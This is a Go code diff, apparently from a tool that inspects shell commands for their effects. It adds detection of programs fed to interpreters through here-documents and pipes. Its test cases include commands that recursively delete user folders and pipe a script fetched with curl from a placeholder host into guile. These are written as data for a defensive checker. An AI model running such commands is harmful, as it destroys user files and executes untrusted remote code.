@@ -71,6 +71,8 @@ func foreignPrograms() []program {
 		ex(`scala -e "$CODE"`, "tag dynamic-exec"),
 		ex("erl -noshell -eval 'io:format(\"hi~n\"), halt().'", "!tag dynamic-exec"),
 		ex(`ghc -e 'removeDirectoryRecursive "/home/u/Documents"'`, "delete:r /home/u/Documents"),
+		ex("racket <<'EOF'\n(delete-directory/files \"/home/u/Music\")\nEOF", "delete:r /home/u/Music"),
+		ex("curl -s https://x.example/a.scm | guile", "tag remote-exec"),
 	}}}
 }
 
@@ -141,6 +143,14 @@ func (k *call) foreign() {
 				ran = true
 			}
 		}
+	}
+	if code == nil && !ran && ops == 0 && l.lang != "elisp" {
+		// the program on stdin: a here-document, a pipe
+		k.stdinCode(false)
+		if in := k.c.stdin; in.literal && !in.remote {
+			k.foreignCode(lit(in.text), l)
+		}
+		return
 	}
 	if code != nil && l.codeCmd != "" {
 		k.eff(Effect{Kind: Exec, Reason: "inline code (" + l.lang + ")"})
